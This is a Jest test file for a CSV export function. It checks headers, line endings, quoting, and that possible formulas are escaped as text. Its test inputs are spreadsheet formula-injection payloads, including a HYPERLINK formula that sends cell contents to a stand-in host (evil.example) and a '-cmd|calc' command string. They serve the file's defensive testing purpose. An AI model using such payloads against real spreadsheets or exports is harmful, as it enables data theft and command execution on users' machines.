import { describe, expect, test } from '@jest/globals';
import Papa from 'papaparse';
import { toCsv } from './csv.ts';

const columns = [
  { title: 'Name', text: ({ name }: { name: string }) => name },
  { title: 'Length', text: ({ name }: { name: string }) => String(-name.length) },
];
/** What a spreadsheet would read of a name. */
const readBack = (name: string) => Papa.parse<string[]>(toCsv(columns, [{ name }]).slice(1)).data[1]?.[0];

test('begins with the byte order mark and a header; lines end in CRLF', () => {
  expect(toCsv(columns, [{ name: 'Pear' }, { name: 'Fig' }])).toBe('\uFEFFName,Length\r\nPear,-4\r\nFig,-3');
});

describe('what could be a formula', () => {
  test.each([
    '=HYPERLINK("https://evil.example?"&A1,"Click")',
    '=1+1',
    '+1 and more',
    '@SUM(A1:A9)',
    '-1+1',
    '\t=1+1',
    '\r=1+1',
    '\tplain',
    ' =1+1',
    '＝1+1',
    '+1',
    '-cmd|calc',
  ])('%j stays text, and comes back whole', (hostile) => {
    expect(readBack(hostile)).toBe(`'${hostile}`);
  });
});

test.each(['Fund "A", accumulation', 'two\nlines', 'Łódź – 日本', 'ends with a space ', '-12.5'])(
  '%j comes back as it was',
  (name) => {
    expect(readBack(name)).toBe(name);
  },
);
